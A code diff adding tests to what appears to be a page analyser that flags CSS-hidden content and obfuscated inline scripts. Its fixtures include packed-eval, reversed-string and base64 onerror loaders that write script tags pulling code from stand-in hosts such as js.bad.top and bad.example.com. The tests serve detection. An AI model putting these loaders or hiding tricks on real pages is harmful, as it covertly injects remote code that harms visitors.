@@ -20,6 +20,11 @@ describe('a style', () => {
     ['font-size:0', 'zero-font'],
     ['opacity:0', 'transparent'],
     ['color:#fff;background:#FFFFFF', 'background-colour'],
+    ['position:absolute;clip:rect(0,0,0,0)', 'zero-size'],
+    ['clip: rect(1px, 1px, 1px, 1px)', 'zero-size'],
+    ['clip-path:inset(50%)', 'zero-size'],
+    ['transform:scale(0)', 'zero-size'],
+    ['visibility:collapse', 'visibility'],
   ])('%s hides', (style, how) => {
     expect(hidingOf(style)).toBe(how);
   });
@@ -35,6 +40,9 @@ describe('a style', () => {
     'color:#fff;background:#c00',
     'color:#fff;background:url(a.png)',
     'border:0;margin:0',
+    'clip:rect(0,100px,50px,0)',
+    'transform:scale(0.9)',
+    'transform:scale(1.05)',
   ])('%s does not hide', (style) => {
     expect(hidingOf(style)).toBeNull();
   });
@@ -60,6 +68,14 @@ describe('hidden parts', () => {
       { how: 'marquee' },
     ]);
     expect(read(`<marquee width="600" scrollamount="3">通知</marquee>`).hidden).toEqual([]);
+  });
+
+  it('are found where a script hides them as soon as it runs', () => {
+    const hide = 'document.getElementById("x9").style.display="none";';
+    expect(read(`<div id="x9">${foreign}</div><script>${hide}</script>`).hidden).toMatchObject([
+      { how: 'script', selector: '#x9' },
+    ]);
+    expect(read(`<div id="x9">${foreign}</div><script>function shut(){${hide}}</script>`).hidden).toEqual([]);
   });
 
   it('are found where scripts write the hiding element around them', () => {
@@ -119,6 +135,12 @@ describe('what inline scripts take and lead to', () => {
       { what: 'refresh', url: 'https://c.example.com/', scripted: true },
     ]);
     expect(read('<script>img.src="/a.png";location.href="/m/"</script>').sources).toEqual([]);
+    const led = (source: string) => read(`<script>${source}</script>`).sources.map(({ url }) => url);
+    expect(led('s.src="ht"+"tps://"+"js.example.to"+"p/a.js";')).toEqual(['https://js.example.top/a.js']);
+    expect(led('window.open("http://c.example.com/");')).toEqual(['http://c.example.com/']);
+    expect(read('<img onload="location.href=\'http://d.example.com/\'">').sources).toMatchObject([
+      { what: 'refresh', url: 'http://d.example.com/' },
+    ]);
   });
 });
 
@@ -150,6 +172,20 @@ describe('script marks', () => {
     expect(
       scripts(`document.write(unescape("%3Cscript src='http://dcs.example.cn/a.js'%3E%3C/script%3E"))`),
     ).toMatchObject([{ what: 'written', quotation: expect.stringContaining('http://dcs.example.cn/a.js') }]);
+  });
+
+  it('tell what is packed, turned round or handled on loading, in clear', () => {
+    const packed = `eval(function(p,a,c,k,e,d){}('3.4("<0 2=\\'5://1.6.7/8.9\\'></0>")',10,10,'script|js|src|document|write|https|bad|top|a|js'.split('|'),0,{}))`;
+    expect(scripts(packed)).toMatchObject([{ what: 'written', quotation: expect.stringContaining('js.bad.top/a.js') }]);
+    const slides = packed.replace("'script|", "'slides|");
+    expect(scripts(slides)).toEqual([]);
+    const turned = [...'https://js.bad.top/a.js'].reverse().join('');
+    expect(scripts(`s.src="${turned}".split("").reverse().join("")`)).toEqual([
+      { what: 'written', quotation: 'https://js.bad.top/a.js' },
+    ]);
+    const code = btoa('<script src="https://bad.example.com/1.js">');
+    expect(read(`<img src=x onerror="document.write(atob('${code}'))">`).scripts).toHaveLength(1);
+    expect(read('<img src="a.png" onerror="this.src=\'/images/none-to-show.png\'">').scripts).toEqual([]);
   });
 
   it('tell what is written in base64, in clear', () => {
